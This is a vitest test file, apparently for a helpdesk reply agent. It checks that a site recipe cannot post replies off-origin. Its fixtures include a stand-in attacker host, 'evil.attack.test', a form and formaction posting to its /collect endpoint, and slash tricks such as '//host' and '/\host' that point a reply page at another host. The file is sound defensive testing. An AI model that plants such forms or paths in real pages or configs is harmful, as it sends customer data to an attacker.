import { afterEach, describe, expect, it, vi } from 'vitest';
import { Window } from 'happy-dom';
import { attack, attackEach } from './attack';
import { checkRecipe, type Recipe } from '../../src/shared/recipe-check';
import { adapterFromRecipe } from '../../src/sites/recipes/recipe';
import type { ReplyPayload } from '../../src/sites/adapter';

/**
 * Issue 27, from the attacker's side: a recipe applies to the one origin the agent granted, and
 * a post goes nowhere else. The attacker writes the recipe (a file handed to an agent, or a
 * policy) or owns another site the helpdesk links to or redirects to: a reply page that is
 * really another host ("//host/…", "/\host/…"), a posting control whose form posts to another
 * site, the same address on another origin.
 */
const ORIGIN = 'http://desk.attack.test';
const EVIL = 'http://evil.attack.test';

const PAGE = `<!doctype html><html><body>
  <h1 class="subject">Parcel arrived damaged</h1>
  <p class="from"><span class="name">Ines Duarte</span> <span class="email">ines@example.org</span></p>
  <div class="thread"><article class="msg" data-role="customer"><div class="text">The lamp is broken.</div></article></div>
  <form class="reply" action="/tickets/7/reply" method="post"><textarea class="box" name="body"></textarea><button type="submit" class="post">Send reply</button></form>
  <form class="newsletter" action="${EVIL}/collect" method="post"><textarea class="box" name="text"></textarea><button type="submit" class="post">Subscribe</button></form>
</body></html>`;

const base = (): Recipe => ({
  format: 'deskmate-recipe',
  version: 1,
  site: ORIGIN,
  title: 'Attack desk',
  ticket: { path: '^/tickets/(\\d+)(?:/reply)?$' },
  read: { subject: 'h1.subject', requesterName: '.from .name', requesterEmail: '.from .email', messages: '.thread > .msg', body: '.text', role: { attribute: 'data-role', customer: { values: ['customer'] }, agent: { values: ['agent'] }, otherwise: 'system' } },
  reply: { editor: 'form.reply textarea', editorKind: 'textarea', submit: 'form.reply button.post', afterPost: 'thread' },
});

const windows: Window[] = [];
afterEach(async () => {
  vi.unstubAllGlobals();
  await Promise.all(windows.splice(0).map((w) => w.happyDOM.close()));
});

/** The ticket page; every form submission and every request the code makes is recorded. */
function openPage(origin = ORIGIN) {
  const window = new Window({ url: `${origin}/tickets/7` });
  windows.push(window);
  const doc = window.document as unknown as Document;
  doc.write(PAGE);
  const submitted: string[] = [];
  doc.addEventListener('submit', (e) => {
    e.preventDefault();
    submitted.push((e.target as HTMLFormElement).className);
  });
  const requested: string[] = [];
  vi.stubGlobal('fetch', async (input: string | URL | Request) => {
    requested.push(String(input instanceof Request ? input.url : input));
    return new Response('<!doctype html><p>no form here</p>', { headers: { 'content-type': 'text/html' } });
  });
  return { doc, location: window.location as unknown as Location, submitted, requested, frames: () => [...doc.querySelectorAll('iframe')].map((f) => f.getAttribute('src')) };
}

const REPLY = 'Hi Ines, a new lamp ships today. Your order 55812 is refunded.';
const payload = (): ReplyPayload => ({ site: ORIGIN, ticket: '#7', recipient: 'Ines Duarte <ines@example.org>', subject: 'Re: Parcel arrived damaged', body: REPLY });

const OFF_SITE_PAGES = ['//evil.attack.test/tickets/{key}/reply', '/\\evil.attack.test/tickets/{key}/reply', '/\\/evil.attack.test/{key}'];

describe('a recipe applies to its own origin and posts nowhere else (attacker side)', () => {
  attackEach(
    OFF_SITE_PAGES,
    (page) => `a reply or note page "${page}" that is another host is refused at import and from a policy`,
    (page) => {
      const reply = base();
      reply.reply = { ...reply.reply!, page };
      expect(checkRecipe(reply)).toMatchObject({ ok: false, error: expect.stringMatching(/^recipe\.reply\.page: .*leaves the site/) });
      const note = base();
      note.read.role = { ...note.read.role, internal: { values: ['internal'] } };
      note.note = { editor: '#note', editorKind: 'textarea', submit: '#add-note', afterPost: 'thread', page };
      expect(checkRecipe(note)).toMatchObject({ ok: false, error: expect.stringMatching(/^recipe\.note\.page: .*leaves the site/) });
    },
  );

  attack('a stored recipe whose reply page is another host asks nothing of that host at Send… or Confirm, and posts nothing', async () => {
    const r = base();
    // The ticket page has no form: the reply form is "on its own page", which is the attacker's site.
    r.reply = { editor: '#reply-box', editorKind: 'textarea', submit: '#reply-post', afterPost: 'thread', page: '//evil.attack.test/tickets/{key}/reply' };
    const page = openPage();
    const send = adapterFromRecipe(r).tools['reply.send']!;
    await send.prepare({ body: REPLY }, page.doc, page.location);
    const result = await send.deliver(payload(), page.doc, page.location);
    expect(result).toMatchObject({ ok: false });
    expect(page.requested.filter((u) => !u.startsWith(`${ORIGIN}/`))).toEqual([]);
    expect(page.frames().filter((src) => src && !src.startsWith(`${ORIGIN}/`))).toEqual([]);
    expect(page.submitted).toEqual([]);
  });

  attack('a posting control in a form that posts to another site: Confirm refuses, the reply is neither typed there nor submitted', async () => {
    const r = base();
    r.reply = { editor: 'form.newsletter textarea', editorKind: 'textarea', submit: 'form.newsletter button.post', afterPost: 'thread' };
    const page = openPage();
    const result = await adapterFromRecipe(r).tools['reply.send']!.deliver(payload(), page.doc, page.location);
    expect(result).toMatchObject({ ok: false, code: 'invalid_recipe', error: expect.stringContaining(`${EVIL}/collect`) });
    expect(page.submitted).toEqual([]);
    expect(page.doc.querySelector<HTMLTextAreaElement>('form.newsletter textarea')!.value).toBe('');
  });

  attack('a posting control whose formaction sends the helpdesk\'s own reply form to another site: Confirm refuses, nothing is submitted', async () => {
    const r = base();
    const page = openPage();
    const button = page.doc.querySelector('form.reply button.post')!;
    button.setAttribute('formaction', `${EVIL}/collect`);
    const result = await adapterFromRecipe(r).tools['reply.send']!.deliver(payload(), page.doc, page.location);
    expect(result).toMatchObject({ ok: false, code: 'invalid_recipe', error: expect.stringContaining(`${EVIL}/collect`) });
    expect(page.submitted).toEqual([]);
  });

  attack('the same address on another origin (a redirect, a lookalike host) is no ticket page of the recipe: nothing is read or sent there', async () => {
    const adapter = adapterFromRecipe(base());
    const page = openPage(EVIL);
    expect(adapter.detect(new URL(`${EVIL}/tickets/7`), page.doc)).toBe(false);
    expect(adapter.ticket(new URL(`${EVIL}/tickets/7`), page.doc)).toBeNull();
    expect(await (adapter.tools['ticket.read'] as (i: unknown, d: Document, l: Location) => Promise<unknown>)({}, page.doc, page.location)).toMatchObject({ ok: false });
    expect(await adapter.tools['reply.send']!.prepare({ body: REPLY }, page.doc, page.location)).toMatchObject({ ok: false, code: 'no_ticket' });
    expect(await adapter.tools['reply.send']!.deliver({ ...payload(), site: EVIL }, page.doc, page.location)).toMatchObject({ ok: false, code: 'scope_changed' });
    expect(page.submitted).toEqual([]);
  });

  it('still posts through the helpdesk\'s own reply form (the guard refuses only another site)', async () => {
    const page = openPage();
    // The helpdesk's behaviour: a submitted reply shows in the thread as the agent's.
    page.doc.querySelector('form.reply')!.addEventListener('submit', () => {
      const entry = page.doc.createElement('article');
      entry.className = 'msg';
      entry.dataset.role = 'agent';
      entry.innerHTML = '<div class="text"></div>';
      entry.querySelector('.text')!.textContent = page.doc.querySelector<HTMLTextAreaElement>('form.reply textarea')!.value;
      page.doc.querySelector('.thread')!.append(entry);
    });
    const result = await adapterFromRecipe(base()).tools['reply.send']!.deliver(payload(), page.doc, page.location);
    expect(page.submitted).toEqual(['reply']);
    expect(result).toMatchObject({ ok: true });
  });
});
